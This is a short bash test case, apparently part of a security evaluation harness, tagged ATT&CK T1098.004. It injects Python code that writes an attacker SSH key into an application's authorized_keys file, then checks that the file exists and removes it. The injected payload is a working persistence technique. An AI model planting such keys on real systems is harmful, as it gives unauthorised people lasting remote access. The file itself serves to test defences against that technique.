# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1098.004
about="plants an SSH key"
attack() {
	inject '
os.mkdir("/srv/app/data/.ssh")
open("/srv/app/data/.ssh/authorized_keys", "w").write("ssh-ed25519 AAAA attacker")
'
}
effect() { [ -e /srv/app/data/.ssh/authorized_keys ]; }
after() { rm -rf /srv/app/data/.ssh; }
